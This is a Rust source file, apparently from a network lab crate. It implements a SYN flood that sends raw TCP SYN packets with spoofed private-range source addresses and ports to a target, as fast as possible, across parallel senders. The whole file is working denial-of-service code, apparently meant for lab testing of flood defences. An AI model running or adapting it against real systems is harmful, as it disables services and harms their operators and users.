//! SYNs that nobody means.

use crate::lab::Family;
use crate::packet::build::{tcp, tcp_packet};
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering};

/// Addresses of the outside network at which nobody is, and ports of each.
const NOBODIES: usize = 40;
const FIRST_PORT: u16 = 1_024;
const PORTS: usize = 60_000;

/// Sends them as fast as they go, each from an address and port of its own, until there is an end of it; this is one of `parts` senders,
/// by a raw socket of its own. `sent` is told what came of each.
pub fn flood(
    raw: &OwnedFd,
    to: SocketAddr,
    (part, parts): (usize, usize),
    end: &AtomicBool,
    mut sent: impl FnMut(io::Result<usize>),
) {
    let family = Family::of(to.ip());
    // The port of a raw socket's destination is to be 0 (IPv6).
    let address = SocketAddr::new(to.ip(), 0).into();
    let mut number = part;
    while !end.load(Ordering::Relaxed) {
        let source = nobody(family, number).to_string();
        let port = FIRST_PORT + (number / NOBODIES % PORTS) as u16;
        let syn = tcp_packet((&source, port), (&to.ip().to_string(), to.port()), tcp::SYN);
        sent(socket2::SockRef::from(raw).send_to(&syn.network_bytes(), &address));
        number += parts;
    }
}

/// An address of the outside network at which nobody is.
fn nobody(family: Family, number: usize) -> IpAddr {
    let last = 210 + (number % NOBODIES) as u8;
    match family {
        Family::V4 => IpAddr::from([192, 168, 100, last]),
        Family::V6 => IpAddr::from([0xfd00, 0x100, 0, 0, 0, 0, 0xbad, u16::from(last)]),
    }
}
